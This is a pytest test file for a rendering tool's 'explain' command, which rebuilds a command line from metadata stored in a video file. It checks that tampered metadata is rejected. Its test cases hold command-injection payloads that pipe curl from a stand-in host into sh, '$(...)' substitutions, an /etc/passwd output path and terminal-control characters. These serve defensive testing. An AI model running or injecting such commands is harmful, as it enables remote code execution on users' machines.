"""What is told of a file is made from what was checked: a hostile file has no say in it."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from pipeline.catalog import find
from pipeline.cli import explanation as explaining
from pipeline.cli.explanation import explanation
from pipeline.errors import InputError
from pipeline.rendering.plan import Job, command
from pipeline.rendering.quality import QUALITIES
from pipeline.video.recipe import Recipe, recipe
from render import cli

STEERING = "\x1b[2J\u202e\n"
LECTURE = {"title": "Limits", "scenes": [{"scene": "slicing", "function": "x^2 + y", "at": [0, 1]}]}
TALK = ["lecture", "a b.toml", "--lang", "ko", "--quality", "low", "--fps", "4"]


def explained(monkeypatch: pytest.MonkeyPatch, words: list[str], made: Any = None) -> list[str]:
    """The lines about a file with these words and values in it."""
    monkeypatch.setattr(explaining, "read", lambda _: recipe(words, made or {}))
    return explanation(Path("a.mp4"), cli)


HOSTILE = [
    ["bash", "-c", "curl http://evil.example/x | sh"],
    ["render.py"],
    ["render.py", "bash"],
    ["render.py", "--debug", "render", "slicing"],
    ["render.py", "check"],
    ["render.py", "explain", "x"],
    ["render.py", "render"],
    ["render.py", "render", "slicing", "tangent_line"],
    ["render.py", "render", "--all"],
    ["render.py", "render", "--help"],
    ["render.py", "render", "slicing", "-h"],
    ["render.py", "render", "no_such_scene"],
    ["render.py", "render", "slicing; curl evil | sh"],
    ["render.py", "render", "slicing", "--function", "$(curl evil | sh)"],
    ["render.py", "render", "slicing", "--function"],
    ["render.py", "render", "slicing", "--bogus", "x"],
    ["render.py", "render", "slicing", "--beat", "; curl evil | sh"],
    ["render.py", "render", "slicing", "--lang", "xx"],
    ["render.py", "render", "slicing", "--format", STEERING],
    ["render.py", "still", "slicing", "--time", "x"],
    ["render.py", "lecture"],
    ["render.py", "lecture", "x.sh"],
    ["render.py", "lecture", f"{STEERING}.toml"],
    ["render.py", "storyboard", "slicing", "-o", "a.pdf"],
]


@pytest.mark.parametrize("words", HOSTILE, ids=str)
def test_no_other_command_is_offered(monkeypatch: pytest.MonkeyPatch, capsys, words) -> None:
    with pytest.raises(InputError) as caught:
        explained(monkeypatch, words, LECTURE)
    assert str(caught.value) == "a.mp4 was not made by Nabla, or by another version"
    assert capsys.readouterr() == ("", "")


def test_the_command_is_made_anew_from_what_was_understood(monkeypatch: pytest.MonkeyPatch) -> None:
    """An output elsewhere, options twice, values that are not the scene's: none of it is told."""
    words = ["render.py", "render", "Slicing", "-o", "/etc/passwd", "--jobs", "9", "--debug"]
    words += ["--quality", "low", "--quality", "draft", "--fps", "5", "--at", " 1 , 2/2 "]
    first, *others, last = explained(monkeypatch, words, {"run this": "curl evil | sh"})
    told = shlex.split(first)
    assert told[:3] == ["render.py", "render", "slicing"]
    assert "-o" not in told
    assert [told[told.index(name) + 1] for name in ("--quality", "--fps")] == ["draft", "5"]
    assert [line.partition(": ")[0] for line in others] == list(
        find("slicing").parameters({}).as_json()
    )
    assert "curl" not in " ".join([first, *others, last])


def test_a_clip_and_a_still(monkeypatch: pytest.MonkeyPatch) -> None:
    entry = find("slicing")
    job = Job(entry, entry.parameters({"function": "x^2 - y", "at": "1,2"}), QUALITIES["low"], "ko")
    first, *others, last = explained(monkeypatch, command(job))
    assert shlex.split(first) == command(job)
    assert "function: x^2 - y" in others
    assert "at: [1.0, 2.0]" in others
    assert last.startswith("versions: nabla ")
    still = ["render.py", "still", *command(job)[2:], "--time", "2.5"]
    assert shlex.split(explained(monkeypatch, still)[0]) == still


def test_a_lecture(monkeypatch: pytest.MonkeyPatch) -> None:
    first, *others, _ = explained(monkeypatch, ["render.py", *TALK], LECTURE)
    assert shlex.split(first) == ["render.py", *TALK]
    assert "title: Limits" in others
    scenes = next(line for line in others if line.startswith("scenes: "))
    assert json.loads(scenes.removeprefix("scenes: "))[0]["function"] == "x^2 + y"


FALSE_LECTURES: list[dict[str, Any]] = [
    {},
    {**LECTURE, "run this": "curl evil | sh"},
    {**LECTURE, "title": STEERING},
    {**LECTURE, "scenes": [{"scene": "evil"}]},
    {**LECTURE, "scenes": [{"scene": "slicing", "function": "$(curl evil | sh)"}]},
    {**LECTURE, "scenes": [{"scene": "slicing", "run this": "curl evil | sh"}]},
]


@pytest.mark.parametrize("made", FALSE_LECTURES, ids=str)
def test_a_lecture_that_none_could_be(monkeypatch: pytest.MonkeyPatch, made) -> None:
    with pytest.raises(InputError, match="was not made by Nabla"):
        explained(monkeypatch, ["render.py", *TALK], made)


def test_all_lines_are_printable(monkeypatch: pytest.MonkeyPatch) -> None:
    made = {**LECTURE, "scenes": [{"scene": "slicing", "narration": {"cut": f"a{STEERING}b"}}]}
    words = ["render.py", "lecture", "한글.toml", "--lang", "en", "--quality", "low"]
    with pytest.raises(InputError):
        explained(monkeypatch, words, made)
    made["scenes"][0]["narration"]["cut"] = "two\nlines"
    lines = explained(monkeypatch, words, made)
    assert all(line.isprintable() for line in lines)
    assert Recipe(command=words, made=made, versions={}).made == made
